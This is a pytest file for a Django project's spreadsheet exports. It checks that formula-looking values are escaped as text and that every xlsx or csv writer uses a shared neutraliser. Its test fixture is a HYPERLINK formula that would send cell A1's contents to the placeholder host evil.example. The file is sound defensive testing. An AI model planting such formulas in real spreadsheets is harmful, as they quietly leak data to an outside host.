"""Every spreadsheet export writes text that looks like a formula as text (ipcity.core.spreadsheets)."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

import ipcity

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_matrix_xlsx_writes_a_formula_looking_task_title_as_text(client, world):
    task = world.tl_prog.tasks.order_by("pk").first()
    task.title = EVIL
    task.save()
    world.msa.name = "@SUM(1+1)"
    world.msa.save()
    client.force_login(world.office)
    wb = load_workbook(io.BytesIO(client.get(reverse("programs:matrix_xlsx", args=[world.tl_prog.pk])).content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert "'" + EVIL in texts and "'@SUM(1+1)" in texts
    assert f"{task.ref} {EVIL}" in texts  # the matrix header "ref title" does not start with "=": plain text


def _imports_spreadsheets(tree: ast.AST) -> bool:
    return any(isinstance(node, ast.ImportFrom) and node.module in ("ipcity.core.spreadsheets", "ipcity.core")
               and any(a.name in ("spreadsheets", "safe_row", "neutralise") for a in node.names)
               for node in ast.walk(tree))


def test_every_module_that_writes_a_spreadsheet_goes_through_the_one_neutraliser():
    """A new export (xlsx or csv) that forgets the neutraliser fails here, not in an office's Excel."""
    root = Path(ipcity.__file__).parent
    offenders, writers = [], []
    for path in root.rglob("*.py"):
        if "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        writes = [node for node in ast.walk(tree) if isinstance(node, ast.Call) and (
            (isinstance(node.func, ast.Name) and node.func.id == "Workbook")
            or (isinstance(node.func, ast.Attribute) and node.func.attr in ("writer", "DictWriter")
                and isinstance(node.func.value, ast.Name) and node.func.value.id == "csv"))]
        if writes:
            writers.append(path.name)
            if not _imports_spreadsheets(tree):
                offenders.append(str(path.relative_to(root)))
    assert {"matrix_xlsx.py", "scorecard_xlsx.py", "export.py", "xlsx.py"} <= set(writers)  # the scan sees them
    assert offenders == []


def test_cli_csv_tables_neutralise_formulas(tmp_path):
    import pandas as pd

    from ipcity.cli.indicators_compute import _write_table

    frame = pd.DataFrame({"title": ["=1+2 一种专利", "正常标题"], "holder": ["-公司", "某公司"], "count": [3, -4]})
    out = tmp_path / "explain.csv"
    _write_table(frame, "csv", str(out))
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1:] == ["'=1+2 一种专利,'-公司,3", "正常标题,某公司,-4"]
